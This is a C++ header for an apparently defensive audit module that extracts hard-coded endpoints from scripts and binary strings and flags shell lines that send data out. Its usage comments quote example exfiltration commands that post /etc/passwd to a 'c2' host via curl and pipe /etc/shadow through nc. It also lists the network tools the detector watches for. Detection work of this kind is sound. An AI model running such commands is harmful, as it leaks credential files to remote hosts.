// Hard-coded endpoints (CB-NET): the extractor that finds host names, IP addresses and URLs
// in text and in the printable strings of binaries, what is not an endpoint of anyone's
// (documentation, private and special ranges and names), and the shell lines that send data
// out. Internal to the audit module; the fuzzer and the tests use it.
//
//   for (const EndpointHit& e : ExtractEndpoints("curl -F f=@/etc/passwd http://c2.vendor.com/u",
//                                                ExtractMode::kText)) ...   // "c2.vendor.com"
//   IsSpecialHost("192.168.1.1");                 // true: private, not a finding
//   DescribeExfiltration("nc 1.2.3.4 9 < /etc/shadow");  // "nc sends a file's content"
#pragma once

#include <cstddef>
#include <string>
#include <string_view>
#include <vector>

namespace clearbox::audit::internal {

enum class ExtractMode {
  // Scripts and configuration: URLs, dotted quads, IPv6 addresses and host names with a
  // common top-level domain.
  kText,
  // One printable string of a binary: the same shapes, stricter (host names lower-case,
  // with a common top-level domain, never a file name such as libfoo.so.1; no bare
  // "label.cc" country-code pair such as ASN.1's "value.ir"; no four-arc object identifier
  // such as 1.3.101.110).
  kBinaryString,
};

struct EndpointHit {
  std::string host;  // lower-cased name, or the address as written (IPv6 without brackets)
  bool is_address = false;
  bool in_url = false;  // written as scheme://host
  size_t offset = 0;    // of the host in the input
};

// Every endpoint in `text`, in order of offset. Version numbers (a dotted quad after
// "version", "v", "release" ... or with a fifth part or a suffix), file names, e-mail
// addresses and names in paths are not endpoints. Never reads outside `text`; linear time.
std::vector<EndpointHit> ExtractEndpoints(std::string_view text, ExtractMode mode);

// True for hosts that are nobody's endpoint: documentation ranges (192.0.2.0/24,
// 198.51.100.0/24, 203.0.113.0/24, 2001:db8::/32), private and special ranges (RFC 1918,
// loopback, link-local, multicast, 0.0.0.0/8, broadcast, CGNAT 100.64.0.0/10, benchmarking,
// reserved, unique-local IPv6) and special names (example.com/.net/.org, .example, .test,
// .invalid, .localhost, .local, .lan, .home.arpa, .internal, localhost). `host` is as
// ExtractEndpoints gives it.
bool IsSpecialHost(std::string_view host);

// A top-level domain clearbox accepts in a URL host (every two-letter country code and the
// common generic ones), lower case.
bool IsKnownTld(std::string_view tld);

// When this shell command line sends local data to a remote host (curl/wget posting a file,
// /proc or /etc data or a command's output; nc or tftp or ftpput or scp sending a file): a
// short description ("curl posts a file (-F ...=@file)"); else empty. A comment is not a
// command: callers strip comments first (StripShellComment).
std::string DescribeExfiltration(std::string_view line);

// True when this printable string of a binary is prose (a banner, a help or error text:
// "Please report as described in <http://www.debian.org/Bugs/>") rather than an address
// the program may connect to: it has a space and does not start with a network command
// (wget, curl, nc, ...), or it is a URL in angle brackets. Prose endpoints are listed but not held against the pledge.
bool IsProseString(std::string_view s);

// The line without a shell comment ('#' at the start of a word, outside quotes).
std::string_view StripShellComment(std::string_view line);

}  // namespace clearbox::audit::internal
